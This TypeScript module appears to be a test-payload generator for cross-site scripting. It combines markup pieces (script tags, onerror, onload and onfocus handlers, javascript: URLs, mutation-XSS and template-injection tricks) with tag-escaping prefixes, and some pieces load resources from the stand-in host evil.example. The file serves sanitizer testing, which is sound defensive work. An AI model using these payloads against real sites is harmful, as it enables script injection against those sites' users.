/** Pieces of markup that run something wherever a page takes them for its own. Each marks what it makes by `data-hit`. */
const PIECES: readonly string[] = [
  '<script data-hit>alert(1)</script>',
  '<img data-hit src=x onerror=alert(1)>',
  '<svg data-hit onload=alert(1)>',
  '<svg/data-hit/onload=alert(1)//',
  '<svg data-hit><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details data-hit open ontoggle=alert(1)>',
  '<input data-hit autofocus onfocus=alert(1)>',
  '<select data-hit autofocus onfocus=alert(1)>',
  '<iframe data-hit srcdoc="<script>parent.alert(1)</script>">',
  '<iframe data-hit src="javascript:parent.alert(1)">',
  '<a data-hit href="javascript:alert(1)">x</a>',
  '<a data-hit href="java\tscript:alert(1)">x</a>',
  '<object data-hit data="javascript:alert(1)">',
  '<embed data-hit src="javascript:alert(1)">',
  '<video data-hit><source onerror=alert(1)></video>',
  '<audio data-hit src=x onerror=alert(1)>',
  '<body data-hit onload=alert(1)>',
  '<style data-hit>@import "//evil.example/x.css";</style>',
  '<link data-hit rel=stylesheet href=//evil.example/x.css>',
  '<base data-hit href=//evil.example/>',
  '<form data-hit action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<math data-hit><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<noscript><p title="</noscript><img data-hit src=x onerror=alert(1)>">',
  '<template data-hit><img src=x onerror=alert(1)></template>',
  '{{#with "s" as |x|}}<b data-hit>{{lookup x "constructor"}}</b>{{/with}}',
  'javascript:alert(1)',
];
/** Ways out of where the text stands. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</option></select>',
  '-->',
  ']]>',
  '`>',
  '\u202e',
  '&quot;>',
];
const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
];

/** The first so many, spread over all pieces and all ways out. */
export function markupPayloads(count: number): readonly string[] {
  const all = WRITTEN.flatMap((write) => WAYS_OUT.flatMap((way) => PIECES.map((piece) => `${way}${write(piece)}`)));
  if (count > all.length) throw new Error(`There are ${all.length} payloads.`);
  const step = all.length / count;
  return Array.from({ length: count }, (_, n) => all[Math.floor(n * step)] ?? '');
}
